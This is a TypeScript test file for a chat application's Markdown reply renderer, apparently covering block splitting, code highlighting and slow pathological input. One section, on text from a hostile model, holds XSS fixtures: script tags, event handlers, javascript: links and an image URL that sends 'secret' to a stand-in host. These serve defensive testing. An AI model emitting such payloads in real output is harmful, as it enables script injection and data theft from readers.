import { MantineProvider } from '@mantine/core'
import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import Markdown from 'react-markdown'
import remarkGfm from 'remark-gfm'
import { describe, expect, test } from 'vitest'
import { CodeParts } from './CodeParts.tsx'
import { highlightCode } from './highlight-code.ts'
import { highlightableLength, highlightedMax } from './highlightable-length.ts'
import { linkDefinitions, splitMarkdown } from './markdown-blocks.ts'
import { toMarkdownParts } from './markdown-parts.ts'
import { ReplyMarkdown } from './ReplyMarkdown.tsx'

const piece = fc.constantFrom(
  'A paragraph with **bold** and `code`.',
  'A line\nand another one',
  ' A line after a space',
  'A line\n- and an item',
  '   - an item after spaces\n\n     more of it',
  '# A heading',
  '- one\n- two\n  - inner',
  '- one\n\n- two\n\n  more of two',
  '1. first\n2. second',
  '```js\nconst a = 1\n\n\nconst b = 2\n```',
  '~~~\n```\n\nnot closed yet\n~~~',
  '- item\n\n  ```sh\n  ls\n\n  pwd\n  ```',
  '> a quotation\n\n> another one',
  '| a | b |\n| - | - |\n| 1 | 2 |',
  '    indented\n\n    code',
  '---',
  'Title\n===',
)
const document = fc
  .array(fc.tuple(piece, fc.constantFrom('\n\n', '\n\n\n', '\n \n')), { maxLength: 8 })
  .map((pieces) => pieces.map(([text, end]) => text + end).join(''))

const render = (text: string) =>
  renderToStaticMarkup(<Markdown remarkPlugins={[remarkGfm]}>{text}</Markdown>)
const renderReply = (text: string) =>
  renderToStaticMarkup(
    <MantineProvider>
      <ReplyMarkdown text={text} />
    </MantineProvider>,
  )
const withoutSpace = (html: string) => html.replaceAll(/\s+/g, '')

describe('blocks of Markdown', () => {
  test('look as the whole text does', () => {
    fc.assert(
      fc.property(document, (text) => {
        const blocks = splitMarkdown(text)
        expect(blocks.join('')).toBe(text)
        expect(withoutSpace(blocks.map(render).join(''))).toBe(withoutSpace(render(text)))
      }),
      { numRuns: 300 },
    )
  })

  test('stay the same while lines are appended, but for the last', () => {
    fc.assert(
      fc.property(document, fc.nat(), (text, cut) => {
        const lines = text.split(/(?<=\n)/)
        const before = splitMarkdown(lines.slice(0, cut % lines.length).join(''))
        expect(splitMarkdown(text).slice(0, Math.max(0, before.length - 1))).toEqual(
          before.slice(0, -1),
        )
      }),
      { numRuns: 300 },
    )
  })

  test('have the definitions of links that stand elsewhere', () => {
    const text = 'See [here][1].\n\n```\n[2]: https://code.test\n```\n\n[1]: https://a.test\n'
    expect(linkDefinitions(text)).toBe('\n[1]: https://a.test')
    expect(renderReply(text)).toContain('href="https://a.test"')
    expect(renderReply('[1]: https://a.test\n\n```\ncode')).not.toContain('a.test')
  })
})

describe('the text of a hostile model (case 31)', () => {
  test.each([
    '![x](https://evil.test/?q=secret)',
    '![x][1]\n\n[1]: https://evil.test/?q=secret',
    '<img src="https://evil.test/" onerror="alert(1)">',
    '<script>alert(1)</script>',
    '<iframe src="https://evil.test/"></iframe>',
    '<svg onload="alert(1)">',
    '<link rel="prefetch" href="https://evil.test/">',
    '<style>@import url(https://evil.test/)</style>',
  ])('loads and runs nothing: %s', (text) => {
    expect(renderReply(text)).not.toMatch(/<(?:img|script|iframe|svg onload|link|video|object)/)
  })

  test.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:alert(1))',
    '[x](//evil.test)',
    '[x](/chat/stream)',
  ])('has no link to %s', (text) => {
    expect(renderReply(text)).not.toContain('<a ')
  })

  test('shows HTML as it was written', () => {
    expect(renderReply('a <b onclick="x()">bold</b> word')).toContain('a &lt;b onclick=')
    expect(renderReply('<div>\nblock\n</div>')).toContain('&lt;div&gt;')
  })

  test('offers the address of an image that is not loaded', () => {
    const html = renderReply('![a chart](https://charts.test/1.png)')
    expect(html).toContain('Image not loaded: a chart')
    expect(html).toContain('href="https://charts.test/1.png"')
  })
})

describe('a recorded text', () => {
  const renderRecorded = (text: string) =>
    renderToStaticMarkup(
      <MantineProvider>
        <ReplyMarkdown text={text} isRecorded />
      </MantineProvider>,
    )

  test('has no headings of the page', () => {
    const html = renderRecorded('# Plan\n\nTitle\n===\n\n#### Detail')
    expect(html).not.toMatch(/<h[1-6]/)
    expect(html.match(/data-level="h\d"/g)).toEqual([
      'data-level="h1"',
      'data-level="h1"',
      'data-level="h4"',
    ])
  })

  test('has less time, so that many of them do not block the page', () => {
    const text = '*a_ '.repeat(1000)
    expect(renderReply(text)).toContain('<p')
    expect(renderRecorded(text)).not.toContain('<p')
  })

  test('has no HTML and loads nothing', () => {
    const html = renderRecorded('<img src="https://evil.test/">\n\n![x](https://evil.test/)')
    expect(html).not.toContain('<img')
    expect(html).toContain('Image not loaded: x')
  })
})

describe('highlighted code', () => {
  const highlight = (code: string, language: string) =>
    renderToStaticMarkup(<CodeParts parts={highlightCode({ code, language })} />)
  const textOf = (html: string) =>
    html
      .replaceAll(/<[^>]*>/g, '')
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&quot;', '"')
      .replaceAll('&#x27;', "'")
      .replaceAll('&amp;', '&')

  test('has its parts in elements with classes', () => {
    expect(highlight('const a = 1', 'js')).toBe(
      '<span class="hljs-keyword">const</span> a = <span class="hljs-number">1</span>',
    )
  })

  test('is plain in an unknown language', () => {
    expect(highlight('const a = 1', 'klingon')).toBe('const a = 1')
    expect(highlight('a < b', 'constructor')).toBe('a &lt; b')
  })

  test.each(['html', 'js', 'php', 'markdown', 'css', 'diff', 'yaml'])(
    'keeps hostile code text, and all of it, in %s',
    (language) => {
      const code =
        '<img src=x onerror="alert(1)"></code></pre><script>alert(1)</script>\n<!-- ${a} {{b}} `<b>` -->\n\'"&lt;'
      const html = highlight(code, language)
      expect(html.replaceAll(/<span class="[\w -]+">|<\/span>/g, '')).not.toMatch(/[<>]/)
      expect(textOf(html)).toBe(code)
    },
  )

  const line = fc.string({ maxLength: 60 }).map((text) => text.replaceAll('\n', ' '))
  const lines = fc.array(line, { maxLength: 60 }).map((all) => all.join('\n'))

  test('grows by lines in few steps while it is written, and is complete at its end', () => {
    fc.assert(
      fc.property(lines, (code) => {
        let steps = 0
        let before = 0
        for (let end = 0; end <= code.length; end += 1) {
          const length = highlightableLength(code.slice(0, end), true)
          expect(length).toBeGreaterThanOrEqual(before)
          if (length > 0) expect(code[length - 1]).toBe('\n')
          if (length !== before) steps += 1
          before = length
        }
        expect(steps).toBeLessThan(20)
        expect(highlightableLength(code, false)).toBe(code.length)
      }),
      { numRuns: 50 },
    )
  })

  test('is plain where it would take long to render', () => {
    expect(highlightableLength('a\n'.repeat(highlightedMax / 2), false)).toBe(highlightedMax)
    expect(highlightableLength('a\n'.repeat(highlightedMax / 2 + 1), false)).toBe(0)
  })
})

describe('a text that takes too long to render', () => {
  test.each([
    ['quotations within each other', '> '.repeat(10_000)],
    ['lists within each other', '1. '.repeat(6000)],
    ['brackets', ']'.repeat(20_000)],
    ['emphasis', '*a_ '.repeat(5000)],
    ['code that is not closed', '`` a` '.repeat(3000)],
    ['one list', '- a\n'.repeat(20_000)],
    ['a table', `${'|a'.repeat(2000)}\n${'|-'.repeat(2000)}\n${'|\n'.repeat(2000)}`],
    ['line ends of old systems', '> a\r'.repeat(10_000)],
  ])('is shown as it was written: %s', (_what, text) => {
    expect(toMarkdownParts(text)).toEqual([{ text, isPlain: true }])
    expect(renderReply(`**before**\n\n${text}`)).toContain('<strong>before</strong>')
  })

  // Would take minutes with the square of their length.
  test.each([
    ['spaces in an item', `- ${' '.repeat(200_000)}x`],
    ['tabs in a quotation', `> ${'\t'.repeat(200_000)}x`],
    ['a list after a long text', `${'a b c d '.repeat(10_000)}\n- x\n\n${' a\n\n'.repeat(20_000)}`],
  ])('is found in its length: %s', (_what, text) => {
    const shown = toMarkdownParts(text)
    expect(shown.map((part) => part.text).join('')).toBe(text)
  })

  test('does not multiply with the definitions of links', () => {
    const text = `${'[a]: b\n'.repeat(2000)}\n${'a\n\n'.repeat(5000)}`
    const length = toMarkdownParts(text).reduce((sum, part) => sum + part.text.length, 0)
    expect(length).toBe(text.length)
  })

  test('is shown as it was written from where the reply as a whole takes too long', () => {
    const parts = toMarkdownParts('a\n\n'.repeat(50_000))
    expect(parts.slice(0, -1).every(({ isPlain }) => !isPlain)).toBe(true)
    expect(parts.length).toBeLessThan(10_000)
    expect(parts.at(-1)).toMatchObject({ isPlain: true })
    expect(parts.map(({ text }) => text).join('')).toBe('a\n\n'.repeat(50_000))
  })
})

test.each([
  [
    'prose',
    `${'A word and **another** one, and [a link](https://example.org). '.repeat(10)}\n\n`,
    200,
  ],
  ['a list', '- an item with `code` and **emphasis**\n', 500],
  ['a table', '| a | b | c |\n', 300],
  ['code', `\`\`\`js\n${'const a = [b[c], `d`] * 2\n'.repeat(3000)}\`\`\`\n`, 1],
])('ordinary text is rendered however long: %s', (_what, text, times) => {
  const parts = toMarkdownParts(text.repeat(times))
  expect(parts.filter(({ isPlain }) => isPlain)).toEqual([])
})
